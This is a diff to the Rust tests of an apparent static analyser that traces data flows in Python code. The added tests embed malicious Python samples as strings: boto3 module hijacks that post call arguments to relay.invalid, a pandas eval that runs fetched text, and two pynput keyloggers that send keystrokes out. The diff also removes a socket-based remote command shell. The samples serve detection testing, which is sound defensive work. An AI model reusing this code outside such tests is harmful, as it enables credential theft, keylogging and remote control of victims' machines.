@@ -1197,6 +1197,17 @@ fn a_module_under_the_name_of_another_project_is_seen() {
     );
     let flow = flow(&analysis, "code.patch", "network.send");
     assert_eq!((flow.source_callee.as_str(), flow.phase), ("boto3.*", Phase::Call));
+    for sample in [
+        "import sys, requests\nclass M:\n def __getattr__(self, n):\n  def f(*a, **k):\n   \
+         requests.post('https://relay.invalid', json=k)\n  return f\nsys.modules['boto3'] = M()\n",
+        "import sys, requests\ndef make(*a, **k):\n requests.post('https://relay.invalid', json=k)\n\
+         m = type(sys)('boto3')\nm.client = make\nsys.modules['boto3'] = m\n",
+        "import sys, types, requests\nm = types.ModuleType('boto3')\n\
+         m.client = lambda *a: requests.post('https://relay.invalid', json=a)\nsys.modules['boto3'] = m\n",
+    ] {
+        let analysis = analysed(Role::Init, sample);
+        assert_eq!(self::flow(&analysis, "code.patch", "network.send").source_callee, "boto3.*", "{sample}");
+    }
     for own in [
         "import sys\nsys.modules[__name__] = object()\n",
         "import sys\nclass M: pass\nsys.modules['pkg.lazy'] = M()\n",
@@ -1204,16 +1215,6 @@ fn a_module_under_the_name_of_another_project_is_seen() {
     ] {
         assert!(calls(&analysed(Role::Init, own)).is_empty(), "{own}");
     }
-}
-
-#[test]
-fn a_method_that_is_chosen_by_a_computed_name_is_any_of_them() {
-    let sample = "import socket, json, subprocess\nclass A:\n def do_run(self, x):\n  return subprocess.getoutput(x)\n \
-                  def do_wait(self, x):\n  return x\n def loop(self):\n  s = socket.create_connection(('relay.invalid', 9))\n  \
-                  while True:\n   o = json.loads(s.recv(99))\n   s.sendall(getattr(self, 'do_' + o['c'])(o['a']))\n";
-    let analysis = analysed(Role::Package, sample);
-    flow(&analysis, "network.fetch", "process.spawn");
-    flow(&analysis, "process.output", "network.send");
 }
 
 #[test]
@@ -1228,6 +1229,8 @@ fn text_for_the_evaluator_of_another_library_is_code() {
         assert!(layers(&analysis).iter().any(|layer| layer.sink == "code.exec"));
     }
     assert!(calls(&analysed(Role::Init, "import pandas as pd\npd.eval('a + b * 2')\n")).is_empty());
+    let fetched = "import pandas as pd, requests\npd.eval(requests.get('https://relay.invalid').text)\n";
+    flow(&analysed(Role::Init, fetched), "network.fetch", "code.exec");
 }
 
 #[test]
@@ -1253,6 +1256,14 @@ fn a_method_that_stands_before_the_one_that_listens_is_walked_again() {
     flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
     let started = format!("{sample}s = Spy()\ns.report()\ns.start()\n");
     flow(&analysed(Role::Init, &started), "keyboard.capture", "network.send");
+    let functions = "import requests, threading\nfrom pynput import keyboard\nlog = ''\ndef send():\n global log\n \
+                     requests.post('https://relay.invalid', data=log)\n log = ''\n threading.Timer(60, send).start()\n\
+                     def press(k):\n global log\n log += str(k)\nsend()\nkeyboard.Listener(on_press=press).start()\n";
+    flow(&analysed(Role::Init, functions), "keyboard.capture", "network.send");
+    let inner = "import requests\nfrom pynput import keyboard\ndef main():\n log = []\n def send():\n  \
+                 requests.post('https://relay.invalid', data=''.join(log))\n def press(k):\n  log.append(str(k))\n send()\n \
+                 keyboard.Listener(on_press=press).start()\nmain()\n";
+    flow(&analysed(Role::Init, inner), "keyboard.capture", "network.send");
 }
 
 #[test]
